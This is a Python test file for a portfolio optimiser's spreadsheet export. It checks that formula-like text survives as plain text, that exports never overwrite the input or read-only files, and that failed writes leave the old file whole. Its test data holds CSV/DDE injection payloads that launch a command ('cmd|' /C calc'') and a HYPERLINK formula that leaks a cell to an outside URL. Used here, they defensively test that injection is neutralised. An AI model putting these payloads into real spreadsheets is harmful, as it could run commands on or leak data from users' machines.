"""Reliability as a user meets it: exports that cannot carry a formula in, files that are written
whole or not at all and never over the input or a read-only file, solver faults reported in plain
words with the documented exit status, and money in any unit giving the same choices."""

from __future__ import annotations

import hashlib
import os
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from optimizer import cli
from optimizer.export import ExportError, export_result
from optimizer.files import ReadOnlyFile, write_atomically
from optimizer.scenarios import Scenario, export_scenarios
from optimizer.workbook import read_case
from optimizer.workbook_writer import write_case
from tests.corpus.make_corpus import Sheet, write_xlsx

# --------------------------------------------------------------------------- safe export

# Text a subsidiary might send that Excel would run if it were written as a formula (CSV/DDE injection).
FORMULA_LIKE = ["=SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
                '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+1"]
PROJECT_HEADER = ["id", "name", "entity", "sector", "capex_2027", "npv", "exclusive_group"]
PROJECT_ROWS = [
    ["P1", FORMULA_LIKE[0], "=A1", "@risk", 10, 5, None],
    ["P2", FORMULA_LIKE[1], "华瑞新能源", "-sector", 8, 4, "=G"],
    ["P3", FORMULA_LIKE[2], "+entity", "能源", 6, 3, "=G"],
    ["-P4", FORMULA_LIKE[3], "华瑞电力", "=sector", 7, 2, None],
    ["@P5", FORMULA_LIKE[4], "华瑞电力", "能源", 5, -1, None],
    ["=P6", FORMULA_LIKE[5], "华瑞电力", "能源", 50, 9, None],
]
TEXTS = {str(v) for row in PROJECT_ROWS for v in row if isinstance(v, str)}
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_like_case(tmp_path: Path) -> Path:
    """A case whose ids, names, entities, sectors and groups look like formulas, stored as text (as Excel
    stores what a user types after an apostrophe)."""
    path = tmp_path / "formula_like.xlsx"
    write_xlsx(path, [Sheet("Projects", [PROJECT_HEADER, *PROJECT_ROWS]),
                      Sheet("Settings", [["key", "value"], ["total_budget", 30]])])
    return path


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def assert_text_only(path: Path, expected: set[str]) -> None:
    """No sheet of the file holds a formula, and every expected text is in some cell, verbatim, as text."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
    wb = load_workbook(path)  # formulas as formulas, not their values
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value}"
                if cell.data_type == "s":
                    texts.add(cell.value)
    assert expected <= texts, expected - texts


def test_formula_like_text_is_exported_as_text_cell_by_cell(tmp_path):
    case_path = formula_like_case(tmp_path)
    before = sha(case_path)
    out = tmp_path / "result.xlsx"
    assert cli.main(["solve", str(case_path), "-o", str(out)]) == 0
    assert_text_only(out, TEXTS)
    assert sha(case_path) == before
    chosen = {row[0].value for row in load_workbook(out)["Selected"].iter_rows(min_row=2)}
    assert "=P6" not in chosen and chosen  # 50 does not fit the budget of 30: the answer is a real one


def test_formula_like_text_stays_text_in_a_saved_case_and_in_scenarios(tmp_path):
    case = read_case(formula_like_case(tmp_path))
    assert {p.name for p in case.projects} == set(FORMULA_LIKE)
    saved = tmp_path / "saved.xlsx"
    write_case(case, saved)
    assert_text_only(saved, TEXTS)
    assert [(p.id, p.name, p.entity) for p in read_case(saved).projects] == \
        [(p.id, p.name, p.entity) for p in case.projects]
    result = cli.solve_case(case)
    scenarios = tmp_path / "scenarios.xlsx"
    export_scenarios([Scenario("=cmd|' /C calc'!A0", case, result), Scenario("@second", case, result)], scenarios)
    assert_text_only(scenarios, {"=cmd|' /C calc'!A0", FORMULA_LIKE[0]})


def test_export_never_writes_the_input(tmp_path):
    case_path = formula_like_case(tmp_path)
    before = sha(case_path)
    result = cli.solve_case(read_case(case_path))
    link = tmp_path / "link.xlsx"
    link.symlink_to(case_path)
    hard = tmp_path / "hard.xlsx"
    os.link(case_path, hard)
    for target in (case_path, link, hard, tmp_path / "." / case_path.name):
        with pytest.raises(ExportError, match="Refusing to write over the input workbook"):
            export_result(result, target)
    assert cli.main(["solve", str(case_path), "-o", str(case_path)]) == 1
    assert sha(case_path) == before


def test_read_only_target_is_refused_and_kept(tmp_path, capsys):
    case_path = formula_like_case(tmp_path)
    target = tmp_path / "approved.xlsx"
    target.write_bytes(b"the approved plan")
    target.chmod(0o444)
    result = cli.solve_case(read_case(case_path))
    with pytest.raises(ExportError, match="read-only"):
        export_result(result, target)
    assert cli.main(["solve", str(case_path), "-o", str(target)]) == 1
    assert "read-only" in capsys.readouterr().err
    assert target.read_bytes() == b"the approved plan"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["approved.xlsx", "formula_like.xlsx"]


def test_a_write_that_fails_half_way_leaves_the_old_file_whole(tmp_path, monkeypatch):
    case_path = formula_like_case(tmp_path)
    target = tmp_path / "result.xlsx"
    target.write_bytes(b"the previous result")
    result = cli.solve_case(read_case(case_path))

    def disk_full(self, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", disk_full)
    with pytest.raises(ExportError, match="No space left on device"):
        export_result(result, target)
    assert target.read_bytes() == b"the previous result"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["formula_like.xlsx", "result.xlsx"]


def test_write_atomically_refuses_a_read_only_file_and_replaces_a_writable_one(tmp_path):
    target = tmp_path / "a.json"
    write_atomically(target, b"one")
    write_atomically(target, b"two")
    assert target.read_bytes() == b"two"
    target.chmod(0o444)
    with pytest.raises(ReadOnlyFile):
        write_atomically(target, b"three")
    assert target.read_bytes() == b"two"
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]

